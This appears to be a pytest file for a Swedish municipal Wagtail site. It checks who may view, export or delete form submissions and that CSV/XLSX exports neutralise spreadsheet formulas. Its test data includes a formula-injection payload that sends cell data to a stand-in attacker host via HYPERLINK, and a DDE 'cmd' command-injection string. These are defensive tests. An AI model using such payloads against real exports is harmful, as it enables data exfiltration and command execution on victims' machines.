"""Form submissions (list, every export, delete) only for an explicit grant per form or
section, the group "Dataskydd" and superusers; never for editing rights alone. Exports
cannot run a formula a visitor typed."""

import io

import pytest
from django.contrib.auth.models import Group, Permission
from wagtail.models import GroupPagePermission

from kommunwebb.forms.access import SubmissionAccess
from kommunwebb.forms.intake import save_submission

from .conftest import VALID

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://angripare.example/?"&A1,"Klicka")'


@pytest.fixture
def submission(form_page):
    data = {**VALID, "meddelande": FORMULA, "namn": "@SUM(1+1)"}
    submission, _ = save_submission(form_page, data)
    return submission


def editor(django_user_model, name, *groups, page=None):
    """A user in ``groups``; with ``page``, its group may edit that page and below."""
    user = django_user_model.objects.create_user(name, password="x" * 16)
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    for group in groups:
        user.groups.add(group)
    if page is not None:
        group = Group.objects.create(name=f"Redaktörer {name}")
        for codename in ("add_page", "change_page", "publish_page"):
            GroupPagePermission.objects.create(
                group=group, page=page, permission=Permission.objects.get(codename=codename)
            )
        user.groups.add(group)
    return user


def denied(response) -> bool:
    """Wagtail's admin answers PermissionDenied with a redirect to its dashboard."""
    if response.status_code == 302:
        return response["Location"] in ("/admin/", "/admin/login/") or response[
            "Location"
        ].startswith("/admin/login/")
    return response.status_code == 403


def urls(page):
    base = f"/admin/forms/submissions/{page.pk}/"
    return [base, base + "?export=csv", base + "?export=xlsx", base + "delete/"]


def test_editing_rights_alone_do_not_open_the_submissions(
    client, django_user_model, form_page, submission, home
):
    client.force_login(editor(django_user_model, "redaktor", page=home))
    # Editing the page still works.
    assert client.get(f"/admin/pages/{form_page.pk}/edit/").status_code == 200
    for url in urls(form_page):
        response = client.get(url)
        assert denied(response), url
        assert "Anna" not in response.content.decode(errors="replace")
    assert denied(client.get("/admin/forms/"))
    assert client.get("/admin/formular/leveranser/").status_code == 403


def test_a_grant_on_the_section_opens_its_forms(
    client, django_user_model, form_page, submission, home
):
    readers = Group.objects.create(name="Kontaktcenter")
    user = editor(django_user_model, "handlaggare", readers)
    client.force_login(user)
    assert denied(client.get(urls(form_page)[0]))
    SubmissionAccess.objects.create(group=readers, page=home)
    response = client.get(urls(form_page)[0])
    assert response.status_code == 200
    assert "Anna Andersson" not in response.content.decode()  # its name field was a formula
    assert client.get("/admin/forms/").status_code == 200


def test_a_grant_on_another_form_does_not_open_this_one(
    client, django_user_model, form_page, submission, home
):
    from .conftest import build_form_page, publish_under

    other = publish_under(home, build_form_page(slug="annat", title="Annat formulär"))
    readers = Group.objects.create(name="Bygglov")
    SubmissionAccess.objects.create(group=readers, page=other)
    client.force_login(editor(django_user_model, "bygg", readers))
    assert client.get(urls(other)[0]).status_code == 200
    assert denied(client.get(urls(form_page)[0]))


def test_dataskydd_reads_every_form(client, django_user_model, form_page, submission):
    client.force_login(editor(django_user_model, "dpo", Group.objects.get(name="Dataskydd")))
    assert client.get("/admin/forms/").status_code == 200
    assert client.get(urls(form_page)[0]).status_code == 200


def test_csv_export_neutralises_formulas(admin_client, form_page, submission):
    response = admin_client.get(urls(form_page)[1])
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert "'" + FORMULA.replace('"', '""') in text
    assert "'@SUM(1+1)" in text
    assert ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text


def test_xlsx_export_neutralises_formulas(admin_client, form_page, submission):
    from openpyxl import load_workbook

    response = admin_client.get(urls(form_page)[2])
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(content)).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "'" + FORMULA in values
    assert FORMULA not in values


def test_telephone_numbers_and_numbers_are_left_as_they_are():
    from kommunwebb.security.spreadsheets import neutralise

    assert neutralise("+46 (0)40-12 34 56") == "+46 (0)40-12 34 56"
    assert neutralise("-12") == "-12"
    assert neutralise("-1+cmd|' /C calc'!A0") == "'-1+cmd|' /C calc'!A0"
    assert neutralise("\tx") == "'\tx"
    assert neutralise(7) == 7
